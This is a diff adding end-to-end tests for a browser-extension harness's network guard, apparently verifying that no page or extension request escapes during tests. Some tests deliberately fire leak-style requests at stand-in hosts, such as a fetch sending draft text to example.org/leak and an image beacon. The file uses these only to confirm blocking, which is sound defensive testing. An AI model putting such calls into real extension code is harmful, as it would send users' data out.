@@ -1,0 +1,127 @@
+// Self-tests of the e2e harness itself (fixtures.ts): the network guard
+// really catches requests, and a loaded extension runs on the routed pages.
+// They use a tiny probe extension (tests/e2e/probe-extension) that makes
+// network requests on purpose, so nothing here depends on Second Look.
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { START_URLS, expect, openSite, test } from './fixtures';
+import { writeZip } from './support/zip';
+
+const PROBE_DIR = fileURLToPath(new URL('./probe-extension', import.meta.url));
+
+/** The probe as a Firefox (MV2) XPI with a gecko id, written next to the OS temp files. */
+function probeXpi(): string {
+  const mv3 = JSON.parse(readFileSync(join(PROBE_DIR, 'manifest.json'), 'utf8'));
+  const mv2 = {
+    manifest_version: 2,
+    name: mv3.name,
+    version: mv3.version,
+    description: mv3.description,
+    browser_specific_settings: { gecko: { id: 'harness-probe@second-look.invalid' } },
+    background: { scripts: ['background.js'] },
+    permissions: mv3.host_permissions,
+    content_scripts: mv3.content_scripts,
+  };
+  const dir = join(tmpdir(), 'second-look-e2e');
+  mkdirSync(dir, { recursive: true });
+  const path = join(dir, 'harness-probe.xpi');
+  writeFileSync(
+    path,
+    writeZip({
+      'manifest.json': JSON.stringify(mv2, null, 2),
+      'background.js': readFileSync(join(PROBE_DIR, 'background.js')),
+      'content.js': readFileSync(join(PROBE_DIR, 'content.js')),
+    }),
+  );
+  return path;
+}
+
+test.describe('network guard, pages only', () => {
+  test.use({ extension: 'none' });
+
+  test('catches a fetch made from a page, to any host, including a site host', async ({ page, networkGuard }) => {
+    networkGuard.expectBlocked(/example\.org|\/api\/graphql/);
+    await openSite(page, START_URLS.facebook.feed);
+    const results = await page.evaluate(async () => {
+      const tryFetch = (u: string) => fetch(u).then(() => 'ok', () => 'blocked');
+      return [await tryFetch('https://example.org/leak?text=draft'), await tryFetch('https://www.facebook.com/api/graphql/')];
+    });
+    expect(results).toEqual(['blocked', 'blocked']);
+    expect(networkGuard.matching(/example\.org\/leak/)).toEqual([
+      expect.objectContaining({ method: 'GET', source: `page ${START_URLS.facebook.feed}`, how: 'aborted' }),
+    ]);
+    expect(networkGuard.matching(/facebook\.com\/api\/graphql/)).toHaveLength(1);
+  });
+
+  test('catches image beacons and iframes too', async ({ page, networkGuard }) => {
+    networkGuard.expectBlocked(/beacon\.example|frame\.example/);
+    await openSite(page, START_URLS.x.home);
+    await page.evaluate(() => {
+      new Image().src = 'https://beacon.example/pixel.gif?d=1';
+      const f = document.createElement('iframe');
+      f.src = 'https://frame.example/';
+      document.body.append(f);
+    });
+    await expect.poll(() => networkGuard.blocked.length).toBeGreaterThanOrEqual(2);
+  });
+
+  test('fails the test at teardown when an unexpected request was blocked', async ({ page }) => {
+    // Expected to fail: the fixture throws "network guard: 1 request(s)..." at teardown.
+    test.fail();
+    await openSite(page, START_URLS.instagram.feed);
+    await page.evaluate(() => fetch('https://leak.example/').catch(() => undefined));
+  });
+
+  test('serves every site surface without any other request', async ({ page, networkGuard }) => {
+    for (const urls of Object.values(START_URLS)) {
+      for (const url of Object.values(urls)) {
+        await openSite(page, url);
+      }
+    }
+    expect(networkGuard.blocked).toEqual([]);
+  });
+});
+
+test.describe('with a probe extension', () => {
+  test.use({ extension: { chromium: PROBE_DIR, firefox: probeXpi() } });
+
+  test('content scripts run on the routed pages, in iframes too, and their fetches are caught', async ({ page, networkGuard }) => {
+    networkGuard.expectBlocked(/probe\.invalid/);
+    await openSite(page, START_URLS.tiktok.legacyUpload);
+    await expect(page.locator('html')).toHaveAttribute('data-probe-content-script', 'top');
+    const frame = page.frameLocator('iframe[data-tt="Upload_index_iframe"]');
+    await expect(frame.locator('html')).toHaveAttribute('data-probe-content-script', 'frame');
+    await page.evaluate(() => window.dispatchEvent(new Event('probe:content-fetch')));
+    await expect.poll(() => networkGuard.matching(/probe\.invalid\/content-script/).length).toBe(1);
+  });
+
+  test('a request from the extension background (asked by a content script) is caught', async ({ page, networkGuard, browserName }) => {
+    networkGuard.expectBlocked(/probe\.invalid/);
+    await openSite(page, START_URLS.x.home);
+    await expect(page.locator('html')).toHaveAttribute('data-probe-content-script', 'top');
+    await page.evaluate(() => window.dispatchEvent(new Event('probe:background-fetch')));
+    await expect(page.locator('html')).toHaveAttribute('data-probe-background-reply', /failed/);
+    const hits = networkGuard.matching(/probe\.invalid\/background-on-message/);
+    if (browserName === 'chromium') {
+      expect(hits).toEqual([expect.objectContaining({ how: 'aborted', source: expect.stringMatching(/^service worker chrome-extension:\/\//) })]);
+    } else {
+      // Firefox: see the firefox-specific test below.
+      expect(hits.length).toBeLessThanOrEqual(1);
+    }
+  });
+
+  test('Chromium: the guard sees the extension service worker, from its first request on @chromium-only', async ({ page, networkGuard, extensionWorker }) => {
+    // Firefox over BiDi exposes no handle on an extension's background
+    // page (e2e-recipes.md), so worker.evaluate() is Chromium-only.
+    networkGuard.expectBlocked(/probe\.invalid/);
+    expect(extensionWorker).toBeTruthy();
+    const outcome = await extensionWorker!.evaluate(() => fetch('https://probe.invalid/worker-evaluate').then(() => 'ok', () => 'blocked'));
+    expect(outcome).toBe('blocked');
+    expect(networkGuard.matching(/worker-evaluate/)).toEqual([expect.objectContaining({ how: 'aborted', source: expect.stringMatching(/^service worker/) })]);
+    await openSite(page, START_URLS.facebook.feed);
+    // The worker's request made while it started up, before the test began:
+    await expect.poll(() => networkGuard.matching(/background-startup/).length).toBe(1);
+  });
+});
